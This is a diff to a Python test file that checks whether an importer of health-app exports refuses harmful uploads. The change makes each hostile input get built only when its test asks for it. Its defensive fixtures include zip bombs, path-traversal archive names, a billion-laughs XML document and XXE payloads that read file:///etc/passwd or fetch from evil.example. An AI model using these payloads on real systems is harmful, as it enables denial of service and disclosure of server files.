@@ -5,7 +5,7 @@ import io
 import time as stopwatch
 import tracemalloc
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 import pytest
 
@@ -171,76 +171,78 @@ def flipped(data: bytes) -> bytes:
 LAUGHS = b"<?xml version='1.0'?>\n<!DOCTYPE HealthData [<!ENTITY a 'ha'>" + b"".join(
     f"<!ENTITY a{n} '&a{n - 1 if n else ''};&a{n - 1 if n else ''};'>".encode() for n in range(1, 30)
 ) + b"]>\n<HealthData>&a29;</HealthData>"  # fmt: skip
-BOMBS = {
-    "a zip bomb as the habits": (zipped({"Habits.csv": b"\0" * 104_000_000}), "unzips to more than 25 MB"),
+# Made when they are asked for: together they take seconds.
+BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
+    "a zip bomb as the habits": (lambda: zipped({"Habits.csv": b"\0" * 104_000_000}), "unzips to more than 25 MB"),
     "a zip bomb as health data": (
-        zipped({"export.xml": b"<HealthData>" + b" " * 104_000_000 + b"</HealthData>"}), "far more than such a file",
+        lambda: zipped({"export.xml": b"<HealthData>" + b" " * 104_000_000 + b"</HealthData>"}), "far more than such a file",
     ),
-    "a link": (symlink(), "is a link"),
-    "a name that climbs": (zipped({"../../etc/Habits.csv": "x", "Habits.csv": "x"}), "unsafe name"),
-    "a name from the root": (zipped({"/Habits.csv": "x"}), "unsafe name"),
-    "a name of another system": (zipped({"a\\..\\Habits.csv": "x"}), "unsafe name"),
-    "a zip in a zip": (zipped({"Habits.csv": "x", "more.zip": zipped({"a": "b"})}), "a zip within a zip"),
-    "gzip in a zip": (zipped({"export.xml.gz": gzip.compress(b"x" * 1000), "export.xml": "<a/>"}), "a zip within a zip"),
-    "a zip of 50,000": (zipped({f"{n}.csv": "" for n in range(50_000)}, zipfile.ZIP_STORED), "more files than are read"),
-    "another method": (zipped({"Habits.csv": "x"}, zipfile.ZIP_BZIP2), "ordinary one"),
-    "a damaged zip": (loop_zip()[:-30], "damaged"),
-    "gzip": (gzip.compress(b"\0" * 104_000_000), "gzip"),
-    "a workbook": (zipped({"[Content_Types].xml": "", "xl/workbook.xml": ""}), "spreadsheet"),
-    "a database": (b"SQLite format 3\0" + bytes(100), "database backup"),
-    "a PDF": (b"%PDF-1.7\n", "PDF"),
-    "another zip": (zipped({"readme.txt": "x"}), "none that is read here"),
-    "200,000 columns": (b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"," * 199_999, "more than 200 columns"),
-    "200,000 semicolons": (b";".join(b"c%d" % n for n in range(200_000)) + b"\n", "more than 200 columns"),
-    "201 columns": (",".join(f"c{n}" for n in range(201)).encode() + b"\n", "more than 200 columns"),
-    "a cell of 20 MB": (b"day,pain\n2024-03-01," + b"7" * 20_000_000, "larger than 5 MB"),
-    "a cell of 4 MB": (b"day,pain\n2024-03-01," + b"7" * 4_000_000 + b"\n", "far too long|10,000 characters"),
-    "too many rows": (b"day,pain\n" + b"2024-03-01,7\n" * 50_001, "more than 50,000 rows"),
-    "a billion laughs": (LAUGHS, "declares entities"),
+    "a link": (lambda: symlink(), "is a link"),
+    "a name that climbs": (lambda: zipped({"../../etc/Habits.csv": "x", "Habits.csv": "x"}), "unsafe name"),
+    "a name from the root": (lambda: zipped({"/Habits.csv": "x"}), "unsafe name"),
+    "a name of another system": (lambda: zipped({"a\\..\\Habits.csv": "x"}), "unsafe name"),
+    "a zip in a zip": (lambda: zipped({"Habits.csv": "x", "more.zip": zipped({"a": "b"})}), "a zip within a zip"),
+    "gzip in a zip": (lambda: zipped({"export.xml.gz": gzip.compress(b"x" * 1000), "export.xml": "<a/>"}), "a zip within a zip"),
+    "a zip of 50,000": (lambda: zipped({f"{n}.csv": "" for n in range(50_000)}, zipfile.ZIP_STORED), "more files than are read"),
+    "another method": (lambda: zipped({"Habits.csv": "x"}, zipfile.ZIP_BZIP2), "ordinary one"),
+    "a damaged zip": (lambda: loop_zip()[:-30], "damaged"),
+    "gzip": (lambda: gzip.compress(b"\0" * 104_000_000), "gzip"),
+    "a workbook": (lambda: zipped({"[Content_Types].xml": "", "xl/workbook.xml": ""}), "spreadsheet"),
+    "a database": (lambda: b"SQLite format 3\0" + bytes(100), "database backup"),
+    "a PDF": (lambda: b"%PDF-1.7\n", "PDF"),
+    "another zip": (lambda: zipped({"readme.txt": "x"}), "none that is read here"),
+    "200,000 columns": (lambda: b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"," * 199_999, "more than 200 columns"),
+    "200,000 semicolons": (lambda: b";".join(b"c%d" % n for n in range(200_000)) + b"\n", "more than 200 columns"),
+    "201 columns": (lambda: ",".join(f"c{n}" for n in range(201)).encode() + b"\n", "more than 200 columns"),
+    "a cell of 20 MB": (lambda: b"day,pain\n2024-03-01," + b"7" * 20_000_000, "larger than 5 MB"),
+    "a cell of 4 MB": (lambda: b"day,pain\n2024-03-01," + b"7" * 4_000_000 + b"\n", "far too long|10,000 characters"),
+    "too many rows": (lambda: b"day,pain\n" + b"2024-03-01,7\n" * 50_001, "more than 50,000 rows"),
+    "a billion laughs": (lambda: LAUGHS, "declares entities"),
     "a file from the disk": (
-        b"<!DOCTYPE HealthData [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><HealthData>&x;</HealthData>", "declares entities",
+        lambda: b"<!DOCTYPE HealthData [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><HealthData>&x;</HealthData>", "declares entities",
     ),
     "an entity of a parameter": (
-        b"<!DOCTYPE HealthData [<!ENTITY % x SYSTEM 'http://evil.example/x'>%x;]><HealthData/>", "declares entities",
+        lambda: b"<!DOCTYPE HealthData [<!ENTITY % x SYSTEM 'http://evil.example/x'>%x;]><HealthData/>", "declares entities",
     ),
     "a default for every element": (
-        b'<!DOCTYPE HealthData [<!ATTLIST x a CDATA "' + b"A" * 1_000_000 + b'">]><HealthData>' + b"<x/>" * 2_000
+        lambda: b'<!DOCTYPE HealthData [<!ATTLIST x a CDATA "' + b"A" * 1_000_000 + b'">]><HealthData>' + b"<x/>" * 2_000
         + b"</HealthData>", "declares default values",
     ),
     "one habit many times": (
-        zipped({
+        lambda: zipped({
             "Habits.csv": "Position,Name\n" + "001,a\n" * 50_000,
             "001 a/Checkmarks.csv": "Date,Value\n" + "2024-03-01,UNKNOWN\n" * 2_000,
         }), "position '001' is there twice",
     ),
     "a thousand habits of 5 MB": (
-        zipped({
+        lambda: zipped({
             "Habits.csv": "Position,Name\n" + "".join(f"{n:03},a\n" for n in range(1, 31)),
             **{f"{n:03} a/Checkmarks.csv": "Date,Value\n" + "\n" * 1_000_000 for n in range(1, 31)},
         }), "unzips to more than 25 MB",
     ),
     "a moment of 9,000 spaces": (
-        b"day,pain\n" + f"2024-03-01 10:00{' ' * 9_000}am,7\n".encode() * 100, "no column under this header",
+        lambda: b"day,pain\n" + f"2024-03-01 10:00{' ' * 9_000}am,7\n".encode() * 100, "no column under this header",
     ),
-    "an endless attribute": (b"<HealthData><Record type='" + b"x" * 20_000_000, "far too long"),
-    "XML in an odd encoding": (b"<?xml version='1.0' encoding='shift_jis'?>\n<HealthData/>", "encoding that is not read"),
-    "XML in no encoding": (b"<?xml version='1.0' encoding='nonsense'?>\n<HealthData/>", "encoding|broken"),
-    "lists for ids": (pain_diary([{"_id": [1], "date": "x", "painDescription_id": {}}]), "Row 1 of diaryentries"),
-    "deep JSON": (b'{"database":' + b"[" * 200_000, "broken or cut off|not a Pain Diary backup"),
-    "other JSON": (b'{"database": {"content": [{"tableName": "diaryentries", "values": [7]}]}}', "no columns"),
-    "an archive of another app": (b'{"hello": 1}', "comes in by itself"),
-    "half of UTF-16": (ANY_CSV.encode("utf-16")[:-1], "cut off or damaged"),
-    "UTF-16 without its mark": (ANY_CSV.encode("utf-16-le"), "control character"),
-    "nothing": (b"", "empty"),
-    "spaces": (b" \n \n", "empty"),
-    "a header alone": (b"day,pain\n", "no row under it"),
-    "no days at all": (b"a,b\n1,2\n", "no column under this header holds days"),
+    "an endless attribute": (lambda: b"<HealthData><Record type='" + b"x" * 20_000_000, "far too long"),
+    "XML in an odd encoding": (lambda: b"<?xml version='1.0' encoding='shift_jis'?>\n<HealthData/>", "encoding that is not read"),
+    "XML in no encoding": (lambda: b"<?xml version='1.0' encoding='nonsense'?>\n<HealthData/>", "encoding|broken"),
+    "lists for ids": (lambda: pain_diary([{"_id": [1], "date": "x", "painDescription_id": {}}]), "Row 1 of diaryentries"),
+    "deep JSON": (lambda: b'{"database":' + b"[" * 200_000, "broken or cut off|not a Pain Diary backup"),
+    "other JSON": (lambda: b'{"database": {"content": [{"tableName": "diaryentries", "values": [7]}]}}', "no columns"),
+    "an archive of another app": (lambda: b'{"hello": 1}', "comes in by itself"),
+    "half of UTF-16": (lambda: ANY_CSV.encode("utf-16")[:-1], "cut off or damaged"),
+    "UTF-16 without its mark": (lambda: ANY_CSV.encode("utf-16-le"), "control character"),
+    "nothing": (lambda: b"", "empty"),
+    "spaces": (lambda: b" \n \n", "empty"),
+    "a header alone": (lambda: b"day,pain\n", "no row under it"),
+    "no days at all": (lambda: b"a,b\n1,2\n", "no column under this header holds days"),
 }  # fmt: skip
 
 
 @pytest.mark.parametrize("name", BOMBS)
 def test_what_could_do_harm_is_refused_at_once_and_small(name: str) -> None:
-    data, sentence = BOMBS[name]
+    make, sentence = BOMBS[name]
+    data = make()
     tracemalloc.start()
     begun = stopwatch.process_time()
     try:
